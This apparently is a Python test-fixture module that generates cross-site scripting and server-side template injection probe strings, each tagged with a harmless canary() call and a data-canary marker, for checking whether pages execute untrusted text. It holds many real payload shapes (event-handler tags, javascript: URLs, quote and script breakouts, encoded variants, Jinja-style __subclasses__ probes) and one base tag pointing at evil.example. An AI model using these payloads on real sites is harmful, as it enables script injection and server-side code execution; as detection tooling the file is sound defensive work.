"""Texts that would be code if a page took them for markup: what each would call is `canary()`."""

from itertools import cycle, product

MARK = "data-canary"
CALLS = (
    "canary()",
    "canary`1`",
    "parent.canary()",
    "top['canary']()",
    "self.canary&&canary()",
    "window.canary?.()",
)
LEAVES = (
    "",
    '">',
    "'>",
    "</script>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    "</style>",
    "</bdi>",
    "</svg>",
    "`>",
)
#: What runs by itself once it is an element; {c} is the call.
ELEMENTS = (
    "<script {m}>{c}</script>",
    "<img {m} src=x onerror={c}>",
    "<svg {m} onload={c}>",
    "<svg {m}><animate onbegin={c} attributeName=x dur=1s>",
    "<details {m} open ontoggle={c}>x</details>",
    "<iframe {m} srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe {m} src=javascript:{c}></iframe>",
    "<input {m} autofocus onfocus={c}>",
    "<video {m}><source onerror={c}></video>",
    "<math {m}><mtext><style><img src=x onerror={c}></style></mtext></math>",
    "<form {m}><button formaction=javascript:{c} autofocus>x</form>",
    "<object {m} data=javascript:{c}></object>",
    "<a {m} href=javascript:{c}>x</a>",
    "<link {m} rel=stylesheet href=data:,*{{}} onload={c}>",
    "<base {m} href=//evil.example>",
    "<meta {m} http-equiv=refresh content='0;url=javascript:{c}'>",
    "<style {m}>*{{background:url(javascript:{c})}}</style>",
    "<template {m} shadowrootmode=open><img src=x onerror={c}></template>",
    "<xmp {m}><img src=x onerror={c}>",
    "<marquee {m} onstart={c}>x</marquee>",
)
#: What breaks out of an attribute, a script, a template or a URL.
BREAKS = (
    '" {m} onfocus={c} autofocus x="',
    "' {m} onfocus={c} autofocus x='",
    '" {m} style="animation:x" onanimationstart="{c}',
    "javascript:{c}//{m}",
    "java\tscript:{c}//{m}".replace("\t", "&#9;"),
    "';{c};//{m}",
    '";{c};//{m}',
    "\\';{c};//{m}",
    "${{{c}}} {m}",
    "{{{{ self.__init__.__globals__ }}}} {m} {c}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{c}{{% endfor %}} {m}",
    "{u.__class__.__init__.__globals__} {m} {c}".replace("{u", "{{u").replace("__}", "__}}"),
    "{x:>9999999} {m} {c}".replace("{x", "{{x").replace("9}", "9}}"),
    "%(x)s %s %n {m} {c}",
    "&lt;img {m} src=x onerror={c}&gt;",
    "%3Cimg {m} src=x onerror={c}%3E",
    "\\u003cimg {m} src=x onerror={c}\\u003e",
    "\u2028{c}//{m}",
    "＜img {m} src=x onerror={c}＞",
    "{{{{constructor.constructor('{c}')()}}}} {m}",
    "[x](javascript:{c}) {m}",
)


def evil_texts(many: int = 500) -> list[str]:
    """That many different texts, every shape among the first ones."""
    shapes = [leave + shape for leave, shape in product(LEAVES, (*ELEMENTS, *BREAKS))]
    firsts = [*(e for e in ELEMENTS), *(b for b in BREAKS)]
    made = [shape.format(m=MARK, c=call) for shape, call in zip([*firsts, *shapes], cycle(CALLS))]
    return list(dict.fromkeys(made))[:many]


def in_pieces(texts: list[str], most: int) -> list[str]:
    """The texts joined, each piece at most so long; a text that is longer alone is left out."""
    pieces, piece = [], ""
    for text in texts:
        if len(text) <= most:
            if len(piece) + len(text) + 1 > most:
                pieces.append(piece)
                piece = ""
            piece = f"{piece} {text}" if piece else text
    return [*pieces, piece]


def printable(text: str) -> str:
    """As an id or a name may be: nothing that is no printable character."""
    return "".join(char if char.isprintable() else " " for char in text)
